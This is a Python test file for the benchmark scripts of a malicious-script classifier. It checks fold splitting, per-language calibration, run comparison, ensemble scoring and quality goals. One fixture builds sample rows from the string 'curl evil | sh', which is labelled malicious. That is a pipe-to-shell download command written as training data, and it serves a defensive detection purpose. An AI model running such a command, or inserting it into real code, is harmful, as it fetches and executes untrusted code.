"""Every benchmark and measurement script imports: they run by hand (`python -m benchmarks ...`), not in CI, so a
renamed helper they import would otherwise break them silently."""
import importlib
from pathlib import Path

import pytest

SCRIPTS = sorted(p.stem for p in (Path(__file__).resolve().parents[1] / "benchmarks").glob("*.py")
                 if p.stem not in ("__init__", "__main__"))


def test_the_benchmarks_folder_holds_scripts():
    assert "bench_dedup" in SCRIPTS and "common" in SCRIPTS


@pytest.mark.parametrize("name", SCRIPTS)
def test_every_benchmark_script_imports_and_has_an_entry_point(name):
    module = importlib.import_module(f"benchmarks.{name}")
    if name.startswith("bench_"):
        assert callable(getattr(module, "main", None)), f"benchmarks/{name}.py has no main()"


def test_source_folds_keep_each_source_whole_and_give_every_fold_both_labels():
    """The leave-source-out benchmark's fold assignment: a source never straddles folds (else the held-out fold's
    scripts would share a source with training), each label's scripts are dealt evenly, and the seed decides ties."""
    from collections import Counter

    from benchmarks.source_folds import assign_folds

    sources = {f"m{i}": Counter(malicious=10 + i) for i in range(6)}
    sources |= {f"b{i}": Counter(benign=20 + i, malicious=1 if i == 0 else 0) for i in range(9)}
    sources["big"] = Counter(benign=100)
    fold = assign_folds(sources, 3, seed=1)
    assert set(fold) == set(sources) and set(fold.values()) == {0, 1, 2}
    per_fold = [Counter() for _ in range(3)]
    for name, k in fold.items():
        per_fold[k].update(sources[name])
    assert all(c["malicious"] > 0 and c["benign"] > 0 for c in per_fold)
    assert max(c["malicious"] for c in per_fold) - min(c["malicious"] for c in per_fold) <= 15  # the largest source
    assert assign_folds(sources, 3, seed=1) == fold


def test_language_calibration_aligns_languages_without_reordering_inside_one():
    """Per-language Platt scaling: two languages whose scores sit on shifted scales rank badly pooled; calibrated on
    val they pool well, while the order inside each language is untouched. A language too small for its own fit
    falls back to the global one."""
    import numpy as np
    from sklearn.metrics import roc_auc_score

    from benchmarks.language_calibration import LanguageCalibration, cross_fitted

    rng = np.random.default_rng(0)
    y = rng.integers(0, 2, 400)
    langs = np.array(["bash"] * 200 + ["python"] * 200)
    z = 2.0 * y + rng.normal(0, 1, 400) + np.where(langs == "python", 3.0, 0.0)  # python's scale is shifted up
    calibrated = LanguageCalibration().fit(z, y, langs).transform(z, langs)
    assert roc_auc_score(y, calibrated) > roc_auc_score(y, z) + 0.05
    for lang in ("bash", "python"):
        mine = langs == lang
        assert np.array_equal(np.argsort(calibrated[mine]), np.argsort(z[mine]))
    assert roc_auc_score(y, cross_fitted(z, y, langs)) > roc_auc_score(y, z)
    small = LanguageCalibration(min_count=300).fit(z, y, langs)
    assert set(small.fits) == {None}


def test_compare_val_runs_pairs_configs_by_seed_and_writes_the_path_it_is_given(tmp_path):
    """compare_val_runs reads each run's train manifest and split, pairs every config with the reference on the same
    seed, fits TF-IDF on the run's balanced train rows, and writes exactly --out (it once appended '.json' to it)."""
    from benchmarks.compare_val_runs import main
    from pipeline.run.records import Record, write_json, write_records

    def rows(n: int, offset: int) -> list[Record]:
        return [Record(id=f"{offset + i}", text=("curl evil | sh " if i % 2 else "ls -la docs ") + str(offset + i),
                       label="malicious" if i % 2 else "benign", lang="bash") for i in range(n)]

    for name, aucs in (("ref", (0.90, 0.80)), ("new", (0.95, 0.78))):
        for seed, auc in zip((1, 2), aucs):
            run = tmp_path / f"{name}-s{seed}"
            write_records(run / "balance" / "train.jsonl", rows(20, 0))
            write_records(run / "split" / "val.jsonl", rows(10, 100))
            write_json(run / "train" / "manifest.json", {"counts": {
                "val_loss_end": 0.3, "val_roc_auc_end": auc, "train_seconds": 1.0, "epochs": 2.0,
                "best_checkpoint": "checkpoint-2"}})
    out = tmp_path / "cmp.json"
    result = main(["--reference", f"ref={tmp_path}/ref-s{{seed}}", f"new={tmp_path}/new-s{{seed}}",
                   "--seeds", "1,2", "--out", str(out)])
    paired = result["configs"]["new"]["paired_vs_reference"]
    assert paired["val_roc_auc"]["mean"] == 0.015 and paired["seeds_auc_higher"] == 1
    assert result["baseline_val_roc_auc"]["per_seed"] == [1.0, 1.0]  # the words alone tell the labels apart
    assert out.exists() and not (tmp_path / "cmp.json.json").exists()


def test_ensemble_rules_score_every_rule_and_the_combinations_beat_either_scorer():
    """benchmarks.ensemble_rules on two scorers that each see half of the evidence: every rule gets a cross-fitted
    ROC AUC, and the stacked and the plain-mean rules, which see both halves, beat either scorer alone."""
    import numpy as np

    from benchmarks.ensemble_rules import RULES, combine, cross_fitted

    rng = np.random.default_rng(0)
    y = rng.integers(0, 2, 600)
    a, b = (1 / (1 + np.exp(-(1.2 * (2 * y - 1) + rng.normal(0, 1.5, 600)))) for _ in range(2))
    aucs = cross_fitted(y, a, b, seed=0)
    assert set(aucs) == set(RULES)
    for rule in ("stacked", "mean_log_odds", "mean_prob"):
        assert aucs[rule] > max(aucs["model"], aucs["baseline"]) + 0.02
    scores = combine(y, a, b, a[:5], b[:5], seed=0)
    assert np.allclose(scores["mean_prob"], (a[:5] + b[:5]) / 2) and np.array_equal(scores["model"], a[:5])


def test_quality_goal_judges_languages_with_enough_scripts_on_the_seed_means():
    """benchmarks.quality_goal: means and paired seed counts per language, a language under --min-scripts listed but not
    judged, a language one run did not score dropped, and the goal missed when the model trails in a judged language."""
    from benchmarks.quality_goal import OVERALL, judge, table

    def run(model: dict, baseline: dict) -> dict:
        test = {name: {"n": 40, "model": model[name], "baseline": baseline[name]} for name in model}
        return {"scripts": {"bash": 300, "python": 200, "vbscript": 20}, "test": test}

    runs = [run({OVERALL: 0.96, "bash": 0.97, "python": 0.90, "vbscript": 0.8},
                {OVERALL: 0.95, "bash": 0.96, "python": 0.95, "vbscript": 0.5}),
            run({OVERALL: 0.97, "bash": 0.95, "python": 0.92},
                {OVERALL: 0.96, "bash": 0.955, "python": 0.93})]
    rows = table(runs)
    assert set(rows) == {OVERALL, "bash", "python"}  # vbscript: the second run has no figure for it
    assert rows["bash"]["model"] == {"per_seed": [0.97, 0.95], "mean": 0.96, "sd": 0.0141}
    assert rows["bash"]["seeds_model_at_least_baseline"] == 1 and rows[OVERALL]["scripts"] == 520
    goal = judge(rows, min_scripts=100, overall=0.95)
    assert goal["languages"]["bash"] == {"model_minus_baseline": 0.0025, "met": True}
    assert goal["languages_behind"] == ["python"] and goal["overall"]["met"] and not goal["met"]
    assert judge(rows, min_scripts=250, overall=0.95)["met"]  # python (200 scripts) is no longer judged
    assert not judge(rows, min_scripts=250, overall=0.97)["met"]
    without_baseline = table([{"scripts": r["scripts"], "test": {k: {"n": v["n"], "model": v["model"]}
                                                                 for k, v in r["test"].items()}} for r in runs])
    with pytest.raises(ValueError, match="evaluation.baseline=true"):
        judge(without_baseline, min_scripts=100, overall=0.95)


def test_quality_goal_runs_each_seed_through_evaluate_and_tables_its_test_figures(tmp_path):
    """One real seed on the small committed dataset: the table's figures are the run's own evaluate metrics, and the
    data column counts the input's scripts per language."""
    import json
    from collections import Counter

    from benchmarks.quality_goal import main
    from pipeline.run.records import read_json
    from tests.conftest import FAST_TRAINING, TINY_DATA

    (tmp_path / "work" / "seed3").mkdir(parents=True)
    (tmp_path / "work" / "seed3" / "stale").write_text("left by other code")
    out = tmp_path / "goal.json"
    argv = ["--data", str(TINY_DATA), "--seeds", "3", "--work", str(tmp_path / "work"), "--min-scripts", "40",
            "--out", str(out)]
    for override in ["data.dedup.workers=1", *FAST_TRAINING]:
        argv += ["--set", override]
    result = main(argv)
    metrics = read_json(tmp_path / "work" / "seed3" / "evaluate" / "metrics.json")
    assert not (tmp_path / "work" / "seed3" / "stale").exists()  # each seed starts in a fresh directory
    rows = result["rows"]
    assert rows["all"]["model"]["per_seed"] == [round(metrics["model"]["roc_auc"], 4)]
    shell = metrics["baseline"]["per_lang"]["powershell"]["roc_auc"]
    assert rows["powershell"]["baseline"]["per_seed"] == [round(shell, 4)]
    with open(TINY_DATA, encoding="utf-8") as f:
        langs = Counter(json.loads(line)["lang"] for line in f if line.strip())
    languages = [name for name in rows if name != "all"]
    assert {name: rows[name]["scripts"] for name in languages} == {name: langs[name] for name in languages}
    assert set(result["goal"]["languages"]) == {name for name in languages if langs[name] >= 40}
    assert json.loads(out.read_text())["goal"] == result["goal"]
